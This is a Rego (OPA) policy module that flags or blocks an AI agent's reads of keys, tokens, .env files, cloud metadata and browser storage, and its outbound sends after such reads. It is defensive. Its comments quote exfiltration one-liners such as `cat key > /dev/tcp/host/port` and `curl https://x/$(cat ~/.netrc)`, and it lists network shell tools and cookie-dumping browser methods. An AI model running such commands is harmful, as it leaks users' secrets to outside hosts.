# METADATA
# title: Secrets
# description: |
#   Secret material: reading it asks (SSH and GPG keys, cloud credentials, .env files, token
#   files, Hermes' credential stores, /proc/*/environ and environment dumps, cloud instance
#   metadata, keychains, browser profiles, password stores), however the path is spelled, by
#   whatever tool, through a glob or a recursive read of a directory above it; secret-shaped
#   strings in anything that leaves the machine block, and so does reading secret material and
#   sending or serving it in the same call; and once secret material was read in the session,
#   outbound calls that carry data block, or ask when the user asked for that very send (a
#   grant names the destination, or the task authorizes the call's classes).
# schemas:
#   - input: schema.input
#   - data.tasks: schema.tasks
package opafence.guards.secrets

import data.opafence.classify
import data.opafence.guards.common
import data.opafence.guards.reach
import data.opafence.guards.secrets.catalogue
import data.opafence.guards.secrets.catalogue_home_parents
import data.opafence.guards.secrets.catalogue_home_tops
import data.opafence.guards.secrets.catalogue_system_parents
import data.opafence.guards.secrets.credential_services
import data.opafence.guards.secrets.credential_var_names
import data.opafence.guards.secrets.env_template_suffixes
import data.opafence.guards.secrets.hermes_secret_files
import data.opafence.guards.secrets.hermes_secret_parents
import data.opafence.guards.secrets.home_secret_dirs
import data.opafence.guards.secrets.home_secret_parents
import data.opafence.guards.secrets.home_secret_tops
import data.opafence.guards.secrets.metadata_hosts
import data.opafence.guards.secrets.ordinary_name_samples
import data.opafence.guards.secrets.secret_command_words
import data.opafence.guards.secrets.secret_flags
import data.opafence.guards.secrets.secret_name_samples
import data.opafence.guards.secrets.secret_names
import data.opafence.guards.secrets.secret_suffixes
import data.opafence.guards.secrets.ssh_public_names
import data.opafence.guards.secrets.system_secret_parents
import data.opafence.guards.secrets.system_secret_paths
import data.opafence.lib.reason
import data.opafence.task

# --- which paths hold secret material ------------------------------------------------------------

# The tables in data.json are stored normalized (lower case, no trailing slash, commands with
# single spaces): secrets_test checks that, so nothing is normalized per query.

# METADATA
# title: secret_path
# description: True when path p holds secret material (compared lower-cased).
secret_path(p) if secret_norm(common.norm(p))

secret_norm(np) if {
	common.in_home_table(np, home_secret_dirs)
	not ssh_public(np)
}

secret_norm(np) if {
	common.in_table(np, system_secret_paths)
	not ssh_public(np)
}

# Another user's home (`/home/bob/.ssh/deploy_key`, `/root/.aws/credentials`, a glob such as
# `/home/*/.aws/credentials`).
secret_norm(np) if {
	rel := other_home_relative(np)
	some x in common.prefixes(rel)
	x in home_secret_dirs
	not ssh_public(np)
}

# Hermes' own credential stores (auth.json, OAuth and MCP tokens).
secret_norm(np) if {
	some x in common.prefixes(hermes_relative(np))
	x in hermes_secret_files
}

secret_norm(np) if regex.replace(np, `^.*/`, "") in secret_names

# Every suffix in the table is one extension (`.pem`, `.keychain-db`): a lookup, not a scan.
secret_norm(np) if regex.replace(np, `^.*/[^/]*?(\.[^./]*)$`, "$1") in secret_suffixes

secret_norm(np) if env_file(regex.replace(np, `^.*/`, ""))

secret_norm(np) if regex.match(`^/proc/[^/]+/(task/[^/]+/)?environ$`, np)

# The catalogue (catalogue/data.yaml): credential locations of package managers, cloud and CI
# tools, AI tools and their MCP settings, wallets, VPNs, key files, histories, password stores.
secret_norm(np) if catalogue_source(np)

# METADATA
# title: catalogue_source
# description: The catalogue's source for a normalized path it lists (or lies below), if any.
catalogue_source(np) := catalogue.home[x] if {
	some x in common.prefixes(common.home_relative(np))
	catalogue.home[x]
} else := catalogue.home[x] if {
	some x in common.prefixes(other_home_relative(np))
	catalogue.home[x]
} else := catalogue.system[concat("", ["/", x])] if {
	some x in common.prefixes(trim_prefix(np, "/"))
	catalogue.system[concat("", ["/", x])]
} else := catalogue.names[regex.replace(np, `^.*/`, "")]

# Public halves and bookkeeping in any .ssh directory are not secret.
ssh_public(np) if {
	contains(np, "/.ssh/")
	endswith(np, ".pub")
}

ssh_public(np) if {
	contains(np, "/.ssh/")
	regex.replace(np, `^.*/`, "") in ssh_public_names
}

other_home_relative(np) := concat("/", array.slice(parts, n, count(parts))) if {
	not common.within(np, common.home)
	parts := split(np, "/")
	n := home_depth[parts[1]]
	count(parts) > n
}

# /home/<user>/…, /users/<user>/…, /root/…: where a home's own paths start.
home_depth := {"home": 3, "users": 3, "root": 2}

hermes_home := common.norm(input.host.hermes_home)

hermes_relative(np) := substring(np, count(hermes_home) + 1, -1) if {
	hermes_home != ""
	startswith(np, concat("", [hermes_home, "/"]))
}

# --- globs and recursive reads ---------------------------------------------------------------

# METADATA
# title: secret_roots
# description: >-
#   The places secret material lives, as normalized absolute paths: the home's secret
#   directories and files, the system's, and Hermes' credential stores. A glob that could match
#   one, or a recursive read of a directory above one, reads it.
secret_roots := (({concat("/", [common.home, d]) | common.home != ""; some d in home_secret_dirs} | {d |
	some d in system_secret_paths
}) | {concat("/", [hermes_home, f]) | hermes_home != ""; some f in hermes_secret_files}) | catalogue_roots

catalogue_roots := {concat("/", [common.home, d]) | common.home != ""; some d, _ in catalogue.home} | {d |
	some d, _ in catalogue.system
}

# A glob whose last component could name a secret file (`id_*`, `*.pem`, `.env*`, `.n?trc`),
# unless it matches any ordinary name as well (`*`, `*.json`, `.*`): then the directory decides.
# Only a glob whose literal directory lies above a secret place is matched against them.
secret_glob(np) if {
	not ssh_public(np)
	lp := reach.literal_prefix(np)
	above_secrets(lp)
	reach.glob_hits(np, glob_candidates(np, lp), false)
}

# The secret places a glob could reach. Right below home (the usual case, and every glob-like
# word when the shell runs in home) only the home's secret directories whose first component the
# glob's next component matches; deeper or elsewhere, all of them.
glob_candidates(np, lp) := {concat("/", [common.home, d]) |
	re := reach.glob_regex(split(np, "/")[count(split(common.home, "/"))])
	some top in all_tops
	regex.match(re, top)
	some d in home_catalogue
	startswith(concat("", [d, "/"]), concat("", [top, "/"]))
} if {
	lp == common.home
} else := secret_roots

home_catalogue := {d | some d in home_secret_dirs} | {d | some d, _ in catalogue.home}

all_tops := {t | some t in home_secret_tops} | {t | some t in catalogue_home_tops}

secret_glob(np) if {
	last := regex.replace(np, `^.*/`, "")
	reach.globby(last)
	re := reach.glob_regex(last)
	some sample in secret_name_samples
	regex.match(re, sample)
	not general_glob(re)
}

general_glob(re) if {
	some n in ordinary_name_samples
	regex.match(re, n)
}

# `.env`, `.env.local`, `.env.production`, `prod.env`; not `.env.example`, `.env.sample`, `.env.template`.
env_file(b) if b == ".env"

env_file(b) if {
	startswith(b, ".env.")
	parts := split(b, ".")
	not parts[count(parts) - 1] in env_template_suffixes
}

env_file(b) if {
	endswith(b, ".env")
	not startswith(b, ".")
	count(b) > 4
}

# --- reading secret material: ask ----------------------------------------------------------------

# METADATA
# title: secret_reads
# description: >-
#   Every read of secret material, as {"path", "how"}: a file that holds it (also through a glob
#   that could name it), or a directory above it read recursively. A key given to ssh, scp,
#   sftp, ssh-add or ssh-keygen to authenticate or fingerprint with is used, not read.
secret_reads contains r if {
	some r in reach.reads
	not identity_only(r)
	secret_read_path(r.path)
}

secret_reads contains r if {
	some r in reach.recursive_reads
	recursive_read_secret(r.path)
}

# A hard link or bind mount of a secret file (facts.links: same device and inode) is that file.
secret_reads contains {"path": l.path, "how": r.how} if {
	some l in object.get(input.facts, "links", [])
	secret_path(l.same_as)
	some r in reach.reads
	r.path == l.path
}

# A bind mount of a directory that holds secrets, read with everything below it.
secret_reads contains {"path": l.path, "how": r.how} if {
	some l in object.get(input.facts, "links", [])
	some r in reach.recursive_reads
	r.path == l.path
	recursive_secret(l.same_as)
}

# A recursive read's own path is judged as a plain read once (most are plain reads too).
recursive_read_secret(p) if {
	not p in plain_read_paths
	secret_read_path(p)
}

recursive_read_secret(p) if above_secrets(common.norm(p))

recursive_read_secret(p) if {
	reach.globby(p)
	recursive_glob(common.norm(p))
}

plain_read_paths := {r.path | some r in reach.reads}

secret_read_path(p) if secret_path(p)

secret_read_path(p) if {
	reach.globby(p)
	secret_glob(common.norm(p))
}

recursive_secret(p) if secret_read_path(p)

recursive_secret(p) if above_secrets(common.norm(p))

# A directory above a place secret material lives (without building secret_roots: this runs
# for every recursive read).
above_secrets(np) if common.within(common.home, np)

above_secrets(np) if common.home_relative(np) in home_secret_parents

above_secrets(np) if np in system_secret_parents

# The catalogue's parents, precomputed (secrets_test checks them against the catalogue).
above_secrets(np) if common.home_relative(np) in catalogue_home_parents

above_secrets(np) if np in catalogue_system_parents

above_secrets(np) if common.within(hermes_home, np)

above_secrets(np) if hermes_relative(np) in hermes_secret_parents

recursive_secret(p) if {
	reach.globby(p)
	recursive_glob(common.norm(p))
}

recursive_glob(np) if {
	lp := reach.literal_prefix(np)
	above_secrets(lp)
	reach.glob_hits(np, glob_candidates(np, lp), true)
}

identity_cmds := {"ssh", "scp", "sftp", "ssh-add", "ssh-keygen", "ssh-copy-id"}

# The path is only the key a command authenticates with (`ssh -i KEY`, `ssh-add KEY`,
# `ssh-keygen -l -f KEY`), not a file it shows or sends.
identity_only(r) if {
	r.how in identity_cmds
	every c in [c | some c in common.commands; common.cmd_name(c) == r.how] {
		not sends_file(c, r.path)
	}
}

sends_file(c, p) if {
	not common.cmd_name(c) in {"ssh-add", "ssh-keygen"}
	named := count([i | some i, _ in c.operands; common.operand_path(c, i) == p])
	keys := count([i |
		some i, a in c.argv
		a in {"-i", "-f"}
		i + 1 < count(c.argv)
		common.value_path(c, c.argv[i + 1]) == p
	])
	named > keys
}

# METADATA
# title: SECRET_READ
# description: >-
#   This reads {{.path}}, which holds secret material (keys, credentials or tokens); the user
#   is asked first, and outbound calls later in the session are held to a stricter rule.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the secret; prefer reading a template such as .env.example.
ask contains reason.render(rego.metadata.rule(), {"path": r.path}) if {
	some r in secret_reads
}

# METADATA
# title: SECRET_METADATA
# description: >-
#   This fetches {{.host}}, a cloud instance-metadata endpoint that hands out the machine's
#   credentials; the user is asked first, and outbound calls later in the session are held to a
#   stricter rule.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the instance's metadata or credentials.
ask contains reason.render(rego.metadata.rule(), {"host": u.host}) if {
	some u in input.facts.urls
	metadata_host(lower(u.host))
}

metadata_host(h) if h in metadata_hosts

# METADATA
# title: SECRET_METADATA_OPTION
# description: >-
#   This reaches {{.host}}, a cloud instance-metadata address that hands out the machine's
#   credentials, through an option of the command (a proxy, a forced address); the user is
#   asked first.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the instance's metadata or credentials.
ask contains reason.render(rego.metadata.rule(), {"host": h}) if {
	some c in common.commands
	network_command(c)
	some a in common.args(c)
	some h in metadata_addresses
	contains(a, h)
}

metadata_addresses := {h | some h in metadata_hosts; regex.match(`^[0-9a-f.:]+$`, h); contains(h, ".")}

# METADATA
# title: SECRET_METADATA_CODE
# description: >-
#   This code or command connects to {{.host}}, a cloud instance-metadata address that hands out
#   the machine's credentials; the user is asked first.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the instance's metadata or credentials.
ask contains reason.render(rego.metadata.rule(), {"host": h}) if {
	input.facts.code.network == true
	some h in metadata_addresses
	contains(common.text, h)
}

# DNS names that embed the metadata address (`169.254.169.254.nip.io`, `169-254-169-254.sslip.io`, hex).
metadata_host(h) if regex.match(`(^|[.-])(169[.-]254[.-]169[.-]254|a9fea9fe)([.-]|$)`, h)

# METADATA
# title: SECRET_COMMAND
# description: >-
#   `{{.command}}` prints secret material (a password store, keychain, token or the environment);
#   the user is asked first.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the secret.
ask contains reason.render(rego.metadata.rule(), {"command": common.shown(c)}) if {
	some c in common.commands
	secret_command(c)
}

secret_command(c) if secret_named(c, common.cmd_name(c))

# secret_commands by program: the words that must follow it (secrets_test checks the index).
secret_named(c, n) if {
	some rest in secret_command_words[n]
	count(c.argv) > count(rest)
	[lower(a) | some a in array.slice(c.argv, 1, count(rest) + 1)] == rest
}

# A bare `env` / `printenv` / `set` / `export -p` / `declare -x` dumps every variable, API keys
# included (`env -0`, `printenv -0` too).
secret_named(c, n) if {
	n in {"env", "printenv"}
	count(c.operands) == 0
	every f in c.flags {
		f in {"-0", "--null"}
	}
}

secret_named(c, n) if {
	n in {"set", "export"}
	count(c.operands) == 0
	every f in c.flags {
		f == "-p"
	}
}

secret_named(c, n) if {
	n in {"declare", "typeset", "local", "readonly"}
	count(c.operands) == 0
	not common.has_flag(c, "-f")
	not common.has_flag(c, "-F")
}

# BSD-style `ps e`, `ps eww`, `ps auxe`: every process with its environment (a word that is
# not the value of an option: `ps -u steve` is not).
secret_named(c, "ps") if {
	some i, a in c.argv
	i > 0
	regex.match(`^[a-zA-Z]*e[a-zA-Z]*$`, a)
	not startswith(c.argv[i - 1], "-")
}

# awk's whole environment (`for (k in ENVIRON)`); one variable (`ENVIRON["HOME"]`) is not a dump.
secret_named(c, n) if {
	n in {"awk", "gawk", "mawk", "nawk"}
	some a in common.args(c)
	regex.match(`\bin\s+ENVIRON\b`, a)
}

# `gpg -a --export-secret-keys`, `kubectl config view --minify --raw`: a command whose words
# and options print secret material, in any order.
secret_named(c, n) if {
	some entry in secret_flags[n]
	every w in entry.words {
		w in {lower(o) | some o in c.operands}
	}
	some f in entry.flags
	common.has_flag(c, f)
}

# `pass NAME` shows the password as `pass show NAME` does; its other subcommands do not (grep shows matches).
secret_named(c, "pass") if {
	count(c.operands) > 0
	not lower(c.operands[0]) in pass_subcommands
}

pass_subcommands := {
	"init", "ls", "list", "find", "search", "insert", "add", "edit", "generate", "rm", "remove", "delete",
	"mv", "rename", "cp", "copy", "git", "help", "version", "otp",
}

# `printenv GITHUB_TOKEN`, `echo $OPENAI_API_KEY`.
secret_named(c, n) if {
	n in {"printenv", "echo", "printf"}
	some o in common.args(c)
	regex.match(`(?i)(key|token|secret|passw(or)?d|credential)`, o)
	secret_var(n, o)
}

secret_var("printenv", _)

secret_var(name, o) if {
	name != "printenv"
	startswith(o, "$")
}

# --- the browser ---------------------------------------------------------------------------------

# METADATA
# title: SECRET_BROWSER_PAGE
# description: >-
#   This opens {{.url}}, a page of the browser itself (saved passwords, cookies, settings,
#   extensions); what it shows is the browser's secret material.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the browser's own pages.
ask contains reason.render(rego.metadata.rule(), {"url": substring(u.raw, 0, 120)}) if {
	some u in input.facts.urls
	browser_internal(lower(u.scheme), lower(u.path))
	browser_tool
}

browser_tool if startswith(input.call.tool, "browser_")

browser_tool if regex.match(`(?i)(browser|navigate|playwright|puppeteer|chrome|webview)`, input.call.tool)

browser_internal(scheme, _) if scheme in {
	"chrome", "edge", "brave", "opera", "vivaldi", "chrome-extension", "moz-extension", "devtools",
	"chrome-untrusted", "chrome-search", "edge-extension", "resource",
}

browser_internal("about", page) if not page in {"blank", "srcdoc", "newtab", "home"}

# METADATA
# title: SECRET_BROWSER_STORAGE
# description: >-
#   This reads the browser's {{.what}} (cookies, local or session storage, IndexedDB, stored
#   credentials), which hold the sessions of every site the browser is logged into.
# custom:
#   code: SECRET_READ
#   fix: Approve it only if the task really needs the browser's stored sessions.
ask contains reason.render(rego.metadata.rule(), {"what": what}) if {
	some what in browser_storage_reads
}

browser_storage_reads contains m if {
	input.call.tool == "browser_cdp"
	m := object.get(input.call.args, "method", "")
	is_string(m)
	lower(m) in cdp_secret_methods
}

# Script the page runs (browser_console, CDP Runtime.evaluate) that names the storage.
browser_storage_reads contains w if {
	input.call.tool in {"browser_console", "browser_cdp"}
	some w in input.facts.words
	w in {"cookie", "cookies", "localstorage", "sessionstorage", "indexeddb", "cookiestore", "credentials"}
}

cdp_secret_methods := {
	"network.getallcookies", "network.getcookies", "page.getcookies", "storage.getcookies",
	"domstorage.getdomstorageitems", "indexeddb.requestdata", "indexeddb.requestdatabase",
	"indexeddb.getmetadata", "cachestorage.requestentries", "cachestorage.requestcachedresponse",
	"storage.getsharedstorageentries", "storage.getinterestgroupdetails", "webauthn.getcredentials",
	"webauthn.getcredential",
}

# --- what leaves the machine --------------------------------------------------------------------

outbound_tools := {
	"web_search", "web_extract", "x_search", "browser_navigate", "browser_type", "browser_console",
	"browser_cdp", "image_generate", "video_generate", "send_message",
}

network_cmds := {
	"curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "rsync", "ftp", "telnet",
	"http", "https", "xh", "httpie", "gh", "aws", "gcloud", "gsutil", "az", "s3cmd", "rclone",
	"mail", "mailx", "sendmail", "mutt", "dig", "nslookup", "host", "drill", "whois", "websocat", "wscat",
	"grpcurl", "lftp", "tftp", "smbclient", "ping", "ping6", "traceroute", "tracepath", "mtr", "croc",
	"wormhole",
}

git_network := {"push", "clone", "fetch", "pull", "ls-remote", "submodule", "send-email", "request-pull"}

remote_urls := [u | some u in input.facts.urls; not u.loopback == true]

# METADATA
# title: outbound
# description: True when the call sends something off the machine (or may).
outbound if input.call.tool in outbound_tools

outbound if startswith(input.call.tool, "mcp__")

outbound if count(input.facts.recipients) > 0

outbound if count(remote_urls) > 0

outbound if input.facts.code.network == true

outbound if {
	some c in common.commands
	network_command(c)
	not loopback_only
}

network_command(c) if network_named(c, common.cmd_name(c))

network_named(_, n) if {
	n in network_cmds
	not n in remote_copy_cmds
}

# rsync and scp copy locally too: they reach the network when an operand names a host.
remote_copy_cmds := {"rsync", "scp"}

network_named(c, n) if {
	n in remote_copy_cmds
	some o in c.operands
	remote_operand(o)
}

remote_operand(o) if regex.match(`^(rsync|scp|sftp|ssh)://`, lower(o))

remote_operand(o) if regex.match(`^[^/]*[^/\\]:`, o)

network_named(c, "openssl") if lower(c.operands[0]) in {"s_client", "s_time"}

network_named(c, "git") if common.subcommand(common.args(c)) in git_network

# Every URL the call names is on this machine and it names some.
loopback_only if {
	count(input.facts.urls) > 0
	count(remote_urls) == 0
}

# METADATA
# title: SECRET_EGRESS
# description: >-
#   A secret-shaped value ({{.kind}} in {{.arg}}) would leave the machine; secrets are never
#   sent in URLs, queries, messages or tool arguments.
# custom:
#   code: SECRET_EGRESS
#   fix: Remove the secret from the request; reference it by name and let the user supply it themselves.
deny contains reason.render(rego.metadata.rule(), {"kind": s.kind, "arg": s.arg}) if {
	outbound
	some s in input.facts.secrets
}

# METADATA
# title: SECRET_URL
# description: The URL {{.host}} carries credentials or a secret-shaped value and would leave the machine.
# custom:
#   code: SECRET_EGRESS
#   fix: Remove the credentials from the URL; use the tool's own credential store.
deny contains reason.render(rego.metadata.rule(), {"host": u.host}) if {
	some u in remote_urls
	credential_url(u)
}

credential_url(u) if u.has_credentials == true

credential_url(u) if u.secret_like == true

# METADATA
# title: SECRET_EXFIL
# description: This call reads {{.path}}, which holds secret material, and sends data off the machine in the same step.
# custom:
#   code: SECRET_EGRESS
#   fix: Never send secret files anywhere; if the user really wants this, they name the exact command.
deny contains reason.render(rego.metadata.rule(), {"path": r.path}) if {
	some r in secret_reads
	outbound
	carries_data
	not exact_command_granted
}

# METADATA
# title: SECRET_EXFIL_COMMAND
# description: >-
#   `{{.command}}` prints secret material (the environment, a token or a password store) and
#   this call sends data off the machine in the same step, to a destination the user did not name.
# custom:
#   code: SECRET_EGRESS
#   fix: Never send secret output anywhere; if the user really wants this, they name the destination or the exact command.
deny contains reason.render(rego.metadata.rule(), {"command": common.shown(c)}) if {
	some c in common.commands
	secret_command(c)
	outbound
	carries_data
	not exact_command_granted
	not named_destination
}

# METADATA
# title: SECRET_SERVE
# description: >-
#   This serves {{.path}} over the network, and secret material lies in it or below it;
#   anyone who can reach the port can read it.
# custom:
#   code: SECRET_EGRESS
#   fix: Serve only the directory that is meant to be public (for example `-d docs`), never home or a key directory.
deny contains reason.render(rego.metadata.rule(), {"path": p}) if {
	some p in reach.served_dirs
	recursive_secret(p)
	not exact_command_granted
}

# The user's own words held exactly this command line (then SECRET_READ asks, and nothing more).
exact_command_granted if {
	some c in common.commands
	common.line(c) in common.granted_commands
}

# --- credentials held in environment variables -------------------------------------------------

# METADATA
# title: env_credentials
# description: >-
#   The credential-like environment variables the call's program expands or reads
#   (`*_TOKEN`, `*_KEY`, `*_SECRET`, `*PASSWORD*`, cloud, CI and database variables).
env_credentials contains n if {
	some n in object.get(input.facts, "env_vars", [])
	credential_var(n)
}

credential_var(n) if {
	regex.match(credential_var_pattern, n)
	not upper(n) in {"PWD", "OLDPWD"}
}

credential_var(n) if lower(n) in {x | some x in credential_var_names}

credential_var_pattern := concat("", [
	`(?i)(token|secret|passw|credential|api_?key|_key$|^key$|_key_|private|session|cookie|auth`,
	`|(^|_)(pwd|pass)$|_pat$|^pat_|_dsn$)`,
])

# A credential that goes only to its own service (`GITHUB_TOKEN` to api.github.com) is the
# ordinary use of it; anywhere else, or where the destination is not known, it leaks.
own_service(n) if {
	count(destinations) > 0
	services := credential_services[upper(split(n, "_")[0])]
	every d in destinations {
		some g in services
		host_under(d, g)
	}
}

leaked_env_credentials contains n if {
	outbound
	some n in env_credentials
	not own_service(n)
}

# METADATA
# title: SECRET_ENV_EGRESS
# description: >-
#   This call puts the environment variable {{.name}}, a credential, into something that leaves
#   the machine, to a destination that is neither its own service nor one the user named.
# custom:
#   code: SECRET_EGRESS
#   fix: >-
#     Never send credentials from the environment elsewhere; if the user wants this request,
#     they name its destination in their own words (then they are asked).
deny contains reason.render(rego.metadata.rule(), {"name": n}) if {
	some n in leaked_env_credentials
	not named_destination
}

# METADATA
# title: SECRET_ENV_EGRESS_NAMED
# description: >-
#   This call sends the environment variable {{.name}}, a credential, to a destination the user
#   named; they confirm it first.
# custom:
#   code: SECRET_EGRESS
#   fix: Approve it only if that destination should receive this credential.
ask contains reason.render(rego.metadata.rule(), {"name": n}) if {
	some n in leaked_env_credentials
	named_destination
}

# `cat /proc/$PPID/environ`, `tr '\0' '\n' < /proc/$$/environ`: a process's environment through
# a path the shell computes.
secret_reads contains {"path": a, "how": common.cmd_name(c)} if {
	some c in common.commands
	some a in c.argv
	contains(a, "/proc/")
	regex.match(`(^|[^A-Za-z0-9_])/proc/[^/ ]+/(task/[^/ ]+/)?environ$`, a)
}

secret_reads contains {"path": r.raw, "how": common.cmd_name(c)} if {
	some c in common.commands
	some r in c.redirects
	a := r.raw
	contains(a, "/proc/")
	regex.match(`(^|[^A-Za-z0-9_])/proc/[^/ ]+/(task/[^/ ]+/)?environ$`, a)
}

# --- after a secret read: outbound data blocks, or asks for a destination the user named -------

secret_tainted if input.session.taint.secret_read == true

data_flags := {
	"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form",
	"--form-string", "-T", "--upload-file", "--json", "--post-data", "--post-file", "--body-data",
	"--body-file",
}

stream_cmds := {
	"nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "rsync", "ftp", "mail", "mailx",
	"sendmail", "mutt", "croc", "wormhole",
}

# METADATA
# title: carries_data
# description: True when an outbound call carries data of its own (not a plain fetch of a URL).
carries_data if count(input.facts.recipients) > 0

carries_data if input.call.tool in {
	"web_search", "x_search", "browser_type", "browser_console", "browser_cdp", "send_message",
	"image_generate", "video_generate",
}

carries_data if {
	startswith(input.call.tool, "mcp__")
	common.mcp_writes
}

carries_data if input.facts.code.network == true

carries_data if {
	some u in remote_urls
	url_payload(u)
}

carries_data if {
	some c in common.commands
	network_command(c)
	command_sends(c)
}

url_payload(u) if u.query_len > 0

url_payload(u) if regex.match(`[A-Za-z0-9+/=_\-]{32,}`, u.path)

command_sends(c) if {
	some f in data_flags
	common.has_flag(c, f)
}

# `cat key > /dev/tcp/host/port`, `exec 3<>/dev/tcp/host/port`: bash's network redirections.
carries_data if {
	some p in input.facts.paths
	regex.match(`^/dev/(tcp|udp)/`, p.path)
}

# A network command given the output of another command (`curl https://x/$(cat ~/.netrc)`,
# `wget --header="X: $(cat key)"`).
command_sends(c) if {
	c.dynamic == true
	some d in common.commands
	d.context in {"command_substitution", "process_substitution"}
}

# httpie and xh: a method that sends, or request items (`k=v`, `k:=json`, `@file`, `k@file`).
command_sends(c) if {
	common.cmd_name(c) in {"http", "https", "xh", "xhs", "httpie"}
	some o in c.operands
	httpie_sends(o)
}

httpie_sends(o) if upper(o) in {"POST", "PUT", "PATCH"}

httpie_sends(o) if regex.match(`^@|^[^:/=@]+(=|:=|@|=@|:=@)`, o)

command_sends(c) if {
	common.cmd_name(c) == "openssl"
	network_command(c)
}

command_sends(c) if {
	some m in ((common.values(c, "-X") | common.values(c, "--request")) | common.values(c, "--method"))
	upper(m) in {"POST", "PUT", "PATCH"}
}

command_sends(c) if common.cmd_name(c) in stream_cmds

command_sends(c) if common.cmd_name(c) in {"dig", "nslookup", "host", "drill"}

command_sends(c) if {
	common.cmd_name(c) == "ssh"
	count(c.operands) > 1
}

command_sends(c) if {
	common.cmd_name(c) in {"ssh", "curl", "wget"}
	c.pipe_from != ""
}

command_sends(c) if {
	common.cmd_name(c) == "git"
	common.subcommand(common.args(c)) in {"push", "send-email", "request-pull"}
}

command_sends(c) if {
	common.cmd_name(c) in {"gh", "aws", "gcloud", "gsutil", "az", "s3cmd", "rclone"}
	some a in common.args(c)
	lower(a) in {
		"create", "cp", "sync", "copy", "upload", "put", "post", "comment", "send", "edit", "-f",
		"--field", "--raw-field", "--body", "-b", "set", "--input", "--body-file", "-F",
	}
}

# `aws ssm put-parameter`, `gcloud secrets versions add`, `az storage blob upload-batch`.
command_sends(c) if {
	common.cmd_name(c) in {"aws", "gcloud", "az", "gh"}
	some a in common.args(c)
	regex.match(`^(put|create|upload|send|publish|import|write|add|set|update)(-|$)`, lower(a))
}

# `base64 key | xargs -I{} curl https://x/{}`: a network command run on piped data.
command_sends(c) if {
	"xargs" in c.wrappers
	c.pipe_from != ""
}

# Every destination of the call is a recipient or a domain a grant names.
granted_recipients := {lower(r) | some g in common.task_grants; some r in g.recipients}

granted_domains := {lower(d) | some g in common.task_grants; some d in g.domains}

destinations := {lower(r.address) | some r in input.facts.recipients} | {lower(u.host) | some u in remote_urls}

# The user asked for this outbound action in their own words: a grant names its destination,
# or the task authorizes every class of the call, one of them more than a read.
user_asked if named_destination

user_asked if {
	some c in classify.classes
	c != "READ"
	every k in classify.classes {
		k in task.authorized
	}
}

named_destination if {
	count(destinations) > 0
	every d in destinations {
		granted_destination(d)
	}
}

granted_destination(d) if d in granted_recipients

granted_destination(d) if {
	some g in granted_domains
	host_under(d, g)
}

host_under(h, d) if h == d

host_under(h, d) if endswith(h, concat("", [".", d]))

# METADATA
# title: SECRET_TAINT_EGRESS
# description: >-
#   Secret material was read in this session, and this call would send data off the machine
#   without the user having asked for it.
# custom:
#   code: SECRET_TAINT_EGRESS
#   fix: >-
#     Send nothing after reading secrets, or have the user ask for this send in their own
#     words, naming the recipient or domain (then they are asked).
deny contains reason.make(rego.metadata.rule()) if {
	secret_tainted
	outbound
	carries_data
	not user_asked
}

# METADATA
# title: SECRET_TAINT_EGRESS_NAMED
# description: >-
#   Secret material was read in this session; the user asked for this send, so they are asked
#   to confirm that nothing secret goes with it.
# custom:
#   code: SECRET_TAINT_EGRESS
#   fix: Check that the outgoing data holds no secret before approving.
ask contains reason.make(rego.metadata.rule()) if {
	secret_tainted
	outbound
	carries_data
	user_asked
}
